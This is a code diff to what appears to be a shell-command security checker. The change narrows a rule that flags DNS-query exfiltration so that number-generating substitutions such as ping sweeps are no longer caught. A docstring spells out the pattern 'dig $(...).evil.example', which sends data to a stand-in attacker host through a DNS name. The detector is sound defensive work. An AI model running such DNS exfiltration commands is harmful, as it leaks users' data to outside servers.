@@ -278,9 +278,15 @@ def _dns(invocation: Invocation) -> Verdict | None:
     """``dig $(...).evil.example``: data spelled into a name that a remote name server sees."""
     command = invocation.command
     for word in invocation.args:
-        if command.substitutions_in(word) or ("$" in command.render(word) and command.static(word) is None):
-            return _verdict(EXFILTRATION, invocation, "spells computed data into a DNS query or ping payload")
+        for sub in command.substitutions_in(word):
+            programs = {stage.name for stages in walk(sub.script) for stage in stages}
+            if programs - _COUNTERS or _dumps_env(sub.script):
+                return _verdict(EXFILTRATION, invocation, "spells computed data into a DNS query or ping payload")
     return None
+
+
+_COUNTERS = frozenset({"seq", "jot", "expr", "shuf", "date"})
+"""What a sweep computes a host from (``ping 192.168.1.$(seq 1 254)``): numbers, not data."""
 
 
 _SERVERS = re.compile(r"^(?:http\.server|SimpleHTTPServer|http-server|serve|httpd)$")
